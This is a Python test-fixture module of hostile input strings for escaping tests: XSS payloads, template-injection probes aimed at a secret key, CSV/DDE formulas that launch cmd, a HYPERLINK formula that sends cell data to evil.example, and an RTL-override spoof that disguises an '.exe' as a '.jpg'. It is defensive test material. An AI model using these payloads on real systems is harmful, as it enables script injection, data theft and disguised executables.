"""Hostile strings: markup and script payloads, spreadsheet formulas, and Unicode edge cases.

Each is a plain Python string; the tests put them into real fields through real entry points
and check every place the text comes out again.
"""

from __future__ import annotations

# --- markup and script -------------------------------------------------------------------------
SCRIPT = "<script>alert('xss')</script>"
CLOSE_SCRIPT = "</script><script>alert(1)</script>"
EVENT_HANDLERS = [
    '<img src=x onerror="alert(1)">',
    "<body onload=alert(1)>",
    '<a href="#" onclick="alert(1)">点我</a>',
    '" autofocus onfocus="alert(1)" x="',  # breaks out of an attribute if unescaped
    "' onmouseover='alert(1)' '",
]
SVG_ONLOAD = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><circle r="9"/></svg>'
CSS_EXPRESSION = '<div style="width: expression(alert(1)); background:url(javascript:alert(1))">x</div>'
JAVASCRIPT_URLS = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "jav&#x09;ascript:alert(1)",
    "jav\tascript:alert(1)",
    "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)",
    "vbscript:msgbox(1)",
]
DATA_URLS = [
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "DATA:text/html,<script>alert(1)</script>",
    "data:image/svg+xml,<svg onload=alert(1)>",
]
TEMPLATE_INJECTION = ["{{ settings.SECRET_KEY }}", "{% debug %}", "{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>"]
MARKUP = [SCRIPT, CLOSE_SCRIPT, *EVENT_HANDLERS, SVG_ONLOAD, CSS_EXPRESSION, *TEMPLATE_INJECTION]

# --- spreadsheet formulas (CSV/Excel injection, DDE) ---------------------------------------------
FORMULAS = [
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点击\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "=DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")",
]

# --- Chinese and Unicode edge cases --------------------------------------------------------------
RTL_OVERRIDE = "申报材料\u202egpj.exe"           # shows as 申报材料exe.jpg
ZERO_WIDTH = "数\u200b字\u200c素\u200d养\ufeff"   # ZWSP, ZWNJ, ZWJ, BOM
COMBINING = "Z\u0351\u0352\u0353a\u0334\u0335l\u0336g\u0337o\u0338 案例"  # "zalgo"
EMOJI_ZWJ = "👨‍👩‍👧‍👦家庭数字课堂🏳️‍🌈"
CJK_EXT_B = "𠀀𠀁𪚥𰻞"                           # 4-byte UTF-8, 2 UTF-16 units each
FULL_WIDTH = "＜ｓｃｒｉｐｔ＞ａｌｅｒｔ（１）＜／ｓｃｒｉｐｔ＞"
UNICODE = [ZERO_WIDTH, COMBINING, EMOJI_ZWJ, CJK_EXT_B, FULL_WIDTH]
CONTROL = "第一行\x0b第二行\x0c第三行\x07响铃\x1b[31m红色\x1b[0m"
NUL = "空\x00字符"
LONE_SURROGATE_JSON = '"\\ud800孤立代理项"'         # valid JSON, not valid text

TITLE_LIMIT = 60


def title_at_limit(char: str = "𠀀") -> str:
    """60 characters (字) of 4-byte characters: 240 bytes of UTF-8, still within the limit."""
    return char * TITLE_LIMIT


def hostile_title() -> str:
    """A title that is markup, a formula and CJK at once, within the 60-character limit."""
    title = "=1+1<script>alert('t')</script>“银龄”&amp;课堂𠀀"
    assert len(title) <= TITLE_LIMIT
    return title
